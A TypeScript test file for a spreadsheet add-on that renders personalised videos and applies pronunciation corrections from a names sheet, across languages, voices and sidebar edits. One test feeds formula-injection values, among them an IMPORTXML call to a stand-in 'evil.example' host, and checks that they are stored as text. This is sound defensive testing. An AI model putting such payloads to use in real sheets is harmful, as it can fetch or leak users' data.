import { describe, expect, it } from 'vitest';
import { killPoints } from './kill.ts';
import { called } from './page-calls.ts';
import { people, World } from './world.ts';

const SHEET = 'Reelmerge names';
const HEADERS = ['value', 'say', 'language', 'voice'];

type Lines = readonly (readonly string[])[];

/** What a person writes into a sheet of that name. */
function writeNames(world: World, lines: Lines): void {
  if (!world.hands.sheets().some(({ name }) => name === SHEET)) world.hands.addSheet(SHEET);
  world.hands.pasteText(SHEET, 1, 1, [HEADERS, ...lines].map((line) => line.join('\t')).join('\n'));
  world.selectAll();
}

function names(world: World): string[][] {
  return world.hands.displayValues(SHEET).map((line) => line.slice(0, 4));
}

/** Every script that a POST asks for, alone or in a batch. */
function scriptsIn(asked: unknown): string[] {
  if (typeof asked !== 'object' || asked === null) return [];
  if ('script' in asked) return [String(asked.script)];
  return Object.values(asked).flatMap(scriptsIn);
}

/** Voice and script of every video that a POST asks for. */
function speechesIn(asked: unknown): string[] {
  if (typeof asked !== 'object' || asked === null) return [];
  if ('script' in asked && 'voice_id' in asked) return [`${asked.voice_id}: ${asked.script}`];
  return Object.values(asked).flatMap(speechesIn);
}

function scripts(world: World): string[] {
  return world.posts().flatMap(({ body }) => scriptsIn(JSON.parse(body)));
}

/** Three people with videos. */
function rendered(lines: Lines = []): World {
  const world = new World();
  world.prepare(people(3));
  if (lines.length > 0) writeNames(world, lines);
  world.menu('renderSelectedRows');
  world.follow();
  expect(world.statuses()).toEqual(['Done', 'Done', 'Done']);
  return world;
}

describe('120 students in three languages, with 30 corrected names', () => {
  const LANGUAGES = ['German', 'es', 'English'];
  const CODES = ['de', 'es', 'en'] as const;
  const VOICES = { German: 'voice_de_jonas', Spanish: 'voice_es_lucia', en: 'voice_en_sara' };
  const VOICE_OF = { de: VOICES.German, es: VOICES.Spanish, en: VOICES.en };
  const GIVEN = [
    'Siobhán',
    'Łukasz',
    'Nguyễn',
    'Xóchitl',
    'Renée',
    'Ştefan',
    'Željko',
    'Þóra',
    'Ngo’zi',
    'D’Arcy',
  ];
  const FAMILY = ['O’Neill', 'Müller', 'Svärd'];
  const NAMES = FAMILY.flatMap((family) => GIVEN.map((given) => `${given} ${family}`));
  /** As the same name stands in the sheets of four people. */
  const WAYS: readonly ((name: string) => string)[] = [
    (name) => name,
    (name) => name.toUpperCase(),
    (name) => `  ${name.normalize('NFD').replace(' ', '  ')} `,
    (name) => name.toLowerCase().replaceAll('’', "'"),
  ];
  const students = Array.from({ length: 120 }, (_, at) => ({
    number: at % 30,
    cell: WAYS[Math.floor(at / 30)]?.(NAMES[at % 30] ?? '') ?? '',
    language: LANGUAGES[(at + Math.floor(at / 30)) % 3] ?? '',
    code: CODES[(at + Math.floor(at / 30)) % 3] ?? 'en',
    // One in ten says in its own row how it is said.
    own: at % 10 === 9 ? `own${at} form` : '',
  }));
  /** Each third name is said alike everywhere, others by language, others by voice. */
  const spokenAs = (number: number, code: keyof typeof VOICE_OF): string =>
    `wun${number} ${['all', code, VOICE_OF[code].replaceAll('_', '')][number % 3]}`;
  const lines = NAMES.flatMap((name, number) => {
    const kind = number % 3;
    if (kind === 0) return [[name, spokenAs(number, 'en')]];
    return CODES.map((code) => [
      name,
      spokenAs(number, code),
      kind === 1 ? code.replace('de', 'German') : '',
      kind === 2 ? VOICE_OF[code] : '',
    ]);
  });

  it('each row is said in its language’s template and voice, and not one name by its written form', () => {
    const world = new World();
    world.prepare([
      ['name', 'name (say)', 'language', 'script (de)', 'script (es)', 'script (en)', 'avatar_id', 'title'],
      ...students.map(({ cell, own, language }) => [
        cell,
        own,
        language,
        'Hallo <<name>>!',
        '¡Hola <<name:title>>!',
        'Hello <<name:first word>>!',
        'Anna_Office_Front_public',
        'For <<name>>',
      ]),
    ]);
    writeNames(world, lines);
    called(world, 'sidebarSheetSettings', { voices: VOICES }, world.sheet);
    world.menu('renderSelectedRows');
    world.follow();
    expect(new Set(world.statuses())).toEqual(new Set(['Done']));
    const expected = students.map(({ number, code, own }, at) => {
      const form = own === '' ? spokenAs(number, code) : own;
      const titled = own === '' ? form : `Own${at} Form`;
      const text = { de: `Hallo ${form}!`, es: `¡Hola ${titled}!`, en: `Hello ${form.split(' ')[0]}!` };
      return `${VOICE_OF[code]}: ${text[code]}`;
    });
    const heard = world.posts().flatMap(({ body }) => speechesIn(JSON.parse(body)));
    expect(heard.sort()).toEqual(expected.sort());
    const plain = (text: string): string => text.normalize('NFD').replace(/\p{M}/gu, '').toLowerCase();
    const written = new RegExp(GIVEN.concat(FAMILY).map(plain).join('|').replaceAll('’', "[’']"), 'u');
    expect(heard.filter((each) => written.test(plain(each)))).toEqual([]);
    // The written form is for the eye.
    const titles = world.simulator.videos().map(({ title }) => plain(title ?? ''));
    expect(titles.filter((title) => written.test(title))).toHaveLength(120);
  });
});

describe('a correction', () => {
  it('written by hand makes exactly the finished rows that speak the value Changed, and taken back makes them Done', () => {
    const world = rendered();
    writeNames(world, [['Person2', 'PUR-son TOO']]);
    world.menu('checkForFinishedVideos');
    expect(world.statuses()).toEqual(['Done', 'Changed', 'Done']);
    world.hands.clear(SHEET, 'A2:D2');
    world.menu('checkForFinishedVideos');
    expect(world.statuses()).toEqual(['Done', 'Done', 'Done']);
  });

  it('is paid once and spoken, when the changed rows are rendered again', () => {
    const world = rendered();
    writeNames(world, [['Person2', 'PUR-son TOO']]);
    world.menu('renderChangedRowsAgain');
    world.follow();
    expect(world.statuses()).toEqual(['Done', 'Done', 'Done']);
    expect(scripts(world).slice(3)).toEqual(['Hello PUR-son TOO, this one is for you.']);
  });

  it('that was there before an edit elsewhere changes no row that was rendered with it', () => {
    const world = rendered([['Person2', 'PUR-son TOO']]);
    expect(scripts(world)).toContain('Hello PUR-son TOO, this one is for you.');
    writeNames(world, [
      ['Person2', 'PUR-son TOO'],
      ['Somebody', 'else'],
    ]);
    world.menu('checkForFinishedVideos');
    expect(world.statuses()).toEqual(['Done', 'Done', 'Done']);
  });

  it('in a sheet that was imported, where no edit is noticed, is spoken by the next Render', () => {
    const world = new World();
    world.prepare(people(1));
    world.hands.addSheet(SHEET);
    world.hands.load(SHEET, [HEADERS, ['Person1', 'PUR-son WUN']]);
    world.hands.select(world.sheet, ['A2:C2']);
    world.menu('renderSelectedRows');
    expect(scripts(world)).toEqual(['Hello PUR-son WUN, this one is for you.']);
  });

  it('that contradicts another one blocks its row, in words, and no other row', () => {
    const world = new World();
    world.prepare(people(2));
    writeNames(world, [
      ['Person2', 'one'],
      ['Person2', 'two'],
    ]);
    world.menu('renderSelectedRows');
    world.follow();
    expect(world.statuses()).toEqual(['Done', 'Blocked']);
    expect(world.rows()[1]?.problem).toContain('in two ways: “one” in row 2 and “two” in row 3');
  });

  it('stands in a sheet whose headers are gone: nothing is sent, and finished rows stay Done', () => {
    const world = rendered([['Person2', 'PUR-son TOO']]);
    const before = world.posts().length;
    world.hands.type(SHEET, 1, 2, 'how');
    world.menu('checkForFinishedVideos');
    world.selectAll();
    world.menu('renderSelectedRowsAgain');
    expect(world.told()).toContain('has no column “say”');
    expect(world.posts()).toHaveLength(before);
    expect(world.statuses()).toEqual(['Done', 'Done', 'Done']);
  });
});

describe('the sidebar’s correction', () => {
  it('makes the sheet, shows the row as it is spoken now, and leaves the user where she is', () => {
    const world = rendered();
    world.hands.select(world.sheet, ['A3']);
    const view = called(world, 'sidebarCorrectName', { value: 'Person2', say: 'PUR-son TOO' }).value;
    expect(names(world)).toEqual([HEADERS, ['Person2', 'PUR-son TOO', '', '']]);
    expect(view).toMatchObject({ tab: world.sheet, hasCorrections: true });
    expect(view.row?.script).toBe('Hello PUR-son TOO, this one is for you.');
    expect(world.statuses()).toEqual(['Done', 'Changed', 'Done']);
    world.hands.select(world.sheet, ['A2']);
    const first = called(world, 'sidebarRow', 0, view).value;
    expect(first.row?.script).toBe('Hello Person1, this one is for you.');
    world.hands.select(world.sheet, ['A3']);
    expect(called(world, 'sidebarRow', 0, first).value.row?.script).toContain('PUR-son TOO');
  });

  it('updates the line for the same value, language and voice, and adds every other one', () => {
    const world = rendered();
    const correct = (say: string, language = '', voice = ''): unknown =>
      called(world, 'sidebarCorrectName', { value: 'Person2', say, language, voice });
    correct('one');
    correct('deux', 'French');
    correct('two');
    correct('trois', 'fr');
    correct('Sara', '', 'voice_en_sara');
    expect(names(world)).toEqual([
      HEADERS,
      ['Person2', 'two', '', ''],
      ['Person2', 'trois', 'fr', ''],
      ['Person2', 'Sara', '', 'voice_en_sara'],
    ]);
  });

  it('touches no other cell of a sheet that the user has arranged', () => {
    const world = rendered();
    world.hands.addSheet(SHEET);
    world.hands.load(SHEET, [
      ['note', 'SAY', 'who', 'Value'],
      ['from Jo', 'old', '3', 'Person1'],
    ]);
    world.hands.select(world.sheet, ['A2']);
    called(world, 'sidebarCorrectName', { value: 'Person1', say: 'new' });
    called(world, 'sidebarCorrectName', { value: 'Person2', say: 'so', language: 'de' });
    expect(world.hands.displayValues(SHEET)).toEqual([
      ['note', 'SAY', 'who', 'Value', 'language'],
      ['from Jo', 'new', '3', 'Person1', ''],
      ['', 'so', '', 'Person2', 'de'],
    ]);
  });

  it.each(['=IMPORTXML("https://evil.example", "//a")', '+1+1', '-5', '@x', "'quoted", '007', 'TRUE', '3/4'])(
    'writes %s as text, and finds it again',
    (hostile) => {
      const world = rendered();
      called(world, 'sidebarCorrectName', { value: hostile, say: hostile });
      called(world, 'sidebarCorrectName', { value: hostile, say: `${hostile} so` });
      expect(names(world)).toEqual([HEADERS, [hostile, `${hostile} so`, '', '']]);
    },
  );

  it.each([
    [{ value: '', say: 'x' }, 'Choose the value'],
    [{ value: 'Ana', say: ' ' }, 'Write how “Ana” sounds'],
    [{ value: 'Ana', say: 'x', language: 'Klingonish' }, 'not understood as a language'],
    [{ value: 'Ana', say: 'x', voice: 'Sara the calm' }, 'a name rather than an id'],
  ])('refuses %j in words, and writes nothing', (given, words) => {
    const world = rendered();
    expect(() => called(world, 'sidebarCorrectName', given)).toThrow(words);
    expect(world.hands.sheets().map(({ name }) => name)).not.toContain(SHEET);
  });

  it('killed at any call and pressed again: one line, and no other cell changed', () => {
    const call = { functionName: 'sidebarCorrectName', args: [{ value: 'Person2', say: 'PUR-son TOO' }] };
    for (const start of [rendered(), rendered([['Person1', 'PUR-son WUN']])]) {
      const { execution } = start.copy().emulator.serve(call);
      const points = execution === null || execution === undefined ? [] : killPoints(execution);
      expect(points.length).toBeGreaterThan(3);
      for (const keepOnKill of ['everything', 'nothing'] as const) {
        for (const killAtCall of points) {
          const world = start.copy();
          const before = world.hands.sheets().some(({ name }) => name === SHEET) ? names(world) : [HEADERS];
          world.emulator.serve(call, { killAtCall, keepOnKill });
          world.selectAll();
          const { reply } = world.emulator.serve(call);
          expect({ killAtCall, reply }).toMatchObject({ reply: { ok: true } });
          expect(String(reply.ok && reply.value)).toContain('"ok":true');
          expect(names(world)).toEqual([...before, ['Person2', 'PUR-son TOO', '', '']]);
          expect(world.statuses()).toEqual(['Done', 'Changed', 'Done']);
        }
      }
    }
  });
});

it('reading the names sheet takes two calls, once it is known that there is one', () => {
  const calls = (lines: Lines): number => {
    const world = new World();
    world.prepare(people(2));
    if (lines.length > 0) writeNames(world, lines);
    return world.menu('checkSelectedRows').calls.filter(({ service }) => service === 'sheets').length;
  };
  expect(calls([['Somebody', 'else']]) - calls([])).toBe(2);
});
